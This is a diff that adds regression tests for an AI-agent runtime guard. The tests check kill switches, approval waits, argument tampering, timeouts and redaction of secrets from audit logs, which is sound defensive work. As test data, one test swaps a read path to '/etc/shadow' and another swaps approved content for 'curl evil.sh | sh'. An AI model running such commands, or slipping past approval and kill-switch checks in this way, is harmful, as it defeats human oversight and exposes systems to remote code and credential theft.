@@ -454,3 +454,156 @@ describe('alerts from the config', () => {
     expect(alerts).toEqual([2]);
   });
 });
+
+describe('regressions from review (attacks on the runtime)', () => {
+  it('never calls the tool when the kill switch trips between the decision and execution', async () => {
+    const { guard, warden } = await start();
+    warden.on('decision', () => warden.kill({ kind: 'all' }, 'tripped mid-pipeline'));
+    let ran = false;
+    expect(await code(guard.wrap('fs.read', () => (ran = true))({ path: 'notes.txt' }))).toBe(
+      WardenErrorCode.Killed,
+    );
+    expect(ran).toBe(false);
+  });
+
+  it('never runs an approved call when the kill switch tripped during the approval wait', async () => {
+    const ref: { warden?: Warden } = {};
+    const approve: ApprovalCallback = () => {
+      ref.warden!.kill({ kind: 'agent', agent: 'bot' }, 'stop during approval');
+      return { approved: true };
+    };
+    const { guard, warden } = await start({ approval: { require: ['fs.write'] } }, { approve });
+    ref.warden = warden;
+    let ran = false;
+    const write = guard.wrap('fs.write', () => (ran = true));
+    expect(await code(write({ path: 'out/a', content: 'x' }))).toBe(WardenErrorCode.Killed);
+    expect(ran).toBe(false);
+  });
+
+  it('hands the tool the arguments that were checked, not ones mutated after the call started', async () => {
+    const { guard } = await start();
+    const seen: unknown[] = [];
+    const read = guard.wrap('fs.read', (a: { path: string }) => seen.push(a.path));
+    const args = { path: 'notes.txt' };
+    const pending = read(args);
+    args.path = '/etc/shadow';
+    await pending;
+    expect(String(seen[0])).toMatch(/notes\.txt$/);
+  });
+
+  it('hands the tool the approved content, not content swapped during the approval wait', async () => {
+    let release: (() => void) | undefined;
+    const approve: ApprovalCallback = () => new Promise((r) => (release = () => r({ approved: true })));
+    const { guard } = await start({ approval: { require: ['fs.write'] } }, { approve });
+    const written: unknown[] = [];
+    const args = { path: 'out/a.txt', content: 'harmless' };
+    const pending = guard.wrap('fs.write', (a: { content: string }) => written.push(a.content))(args);
+    await sleep(20);
+    args.content = 'curl evil.sh | sh';
+    release!();
+    await pending;
+    expect(written).toEqual(['harmless']);
+  });
+
+  it('runs output stages under the timeout: a slow stage cannot deliver the result late', async () => {
+    const { guard } = await start(
+      { limits: { timeout: '50ms' } },
+      { outputStages: [async (r) => (await sleep(400), r)] },
+    );
+    expect(await code(guard.wrap('fs.read', () => 'secret result')({ path: 'notes.txt' }))).toBe(
+      WardenErrorCode.Timeout,
+    );
+  });
+
+  it('refuses calls made after close()', async () => {
+    const { guard, warden } = await start();
+    await warden.close();
+    let ran = false;
+    expect(await code(guard.wrap('fs.read', () => (ran = true))({ path: 'notes.txt' }))).toBe(
+      WardenErrorCode.Internal,
+    );
+    expect(ran).toBe(false);
+  });
+
+  it('does not let guards without a session id share session limits', async () => {
+    const { warden } = await start({ limits: { maxToolCalls: 1 } });
+    const a = warden.guard({ agent: 'bot' }).wrap('fs.read', () => 'a');
+    const b = warden.guard({ agent: 'bot' }).wrap('fs.read', () => 'b');
+    expect(await a({ path: 'notes.txt' })).toBe('a');
+    expect(await b({ path: 'notes.txt' })).toBe('b');
+    expect(await code(a({ path: 'notes.txt' }))).toBe(WardenErrorCode.LimitExceeded);
+  });
+
+  it("keeps the callback's no even when another channel approved meanwhile", async () => {
+    const ref: { warden?: Warden } = {};
+    const approve: ApprovalCallback = (request) => {
+      ref.warden!.resolveApproval(request.id, true, 'side channel');
+      return { approved: false, reason: 'human said no' };
+    };
+    const { guard, warden } = await start({ approval: { require: ['fs.write'] } }, { approve });
+    ref.warden = warden;
+    let ran = false;
+    expect(await code(guard.wrap('fs.write', () => (ran = true))({ path: 'out/a', content: 'x' }))).toBe(
+      WardenErrorCode.ApprovalDenied,
+    );
+    expect(ran).toBe(false);
+  });
+
+  it('keeps nested and non-string secrets and bearer tokens out of the audit log', async () => {
+    const token = `ghp_${'Z9y8X7w6'.repeat(5)}`;
+    const approve: ApprovalCallback = () => ({
+      approved: false,
+      reason: `upstream: Authorization: Bearer ${token}`,
+    });
+    const { guard, store } = await start(
+      { tools: { allow: ['fs.*', 'net.*'] }, approval: { require: ['net.call'] } },
+      { approve },
+    );
+    await code(
+      guard.wrap('net.call', () => 'x')({ credentials: { pass: 'hunter2-nested' }, password: 987654321 }),
+    );
+    const log = JSON.stringify(store.audit.recordList) + JSON.stringify(store.listApprovals());
+    expect(log).not.toContain('hunter2-nested');
+    expect(log).not.toContain('987654321');
+    expect(log).not.toContain(token);
+  });
+
+  it('treats an unreadable kill-switch table as a kill of everything instead of crashing', async () => {
+    const root = workspace();
+    mkdirSync(join(root, 'state'));
+    const warden = await createWarden({
+      config: {
+        version: 1,
+        agents: [
+          { name: 'bot', workspace: './ws', tools: { allow: ['fs.read'] }, files: { read: ['./ws'] } },
+        ],
+        audit: { store: 'sqlite:./state/k.db' },
+      },
+      baseDir: root,
+      killPollMs: 20,
+    } as WardenOptions);
+    open.push(warden);
+    const errors: string[] = [];
+    warden.on('error', (e) => errors.push(e.stage));
+    const { default: Database } = await import('better-sqlite3');
+    const db = new Database(join(root, 'state', 'k.db'));
+    db.prepare("INSERT INTO kills (scope, entry) VALUES ('x', 'not json')").run();
+    db.close();
+    await sleep(80);
+    expect(errors).toContain('kill-switch');
+    expect(await code(warden.guard({ agent: 'bot' }).wrap('fs.read', () => 'x')({ path: 'notes.txt' }))).toBe(
+      WardenErrorCode.Killed,
+    );
+  });
+
+  it('reports a kill made by another process as a kill event here', async () => {
+    const { warden, store } = await start();
+    const kills: string[] = [];
+    warden.on('kill', (e) => kills.push(`${e.scope} ${e.revived ? 'revived' : 'killed'}`));
+    store.setKill({ scope: { kind: 'agent', agent: 'bot' }, reason: 'remote', at: new Date().toISOString() });
+    await sleep(60);
+    store.clearKill({ kind: 'agent', agent: 'bot' });
+    await sleep(60);
+    expect(kills).toEqual(['agent:bot killed', 'agent:bot revived']);
+  });
+});
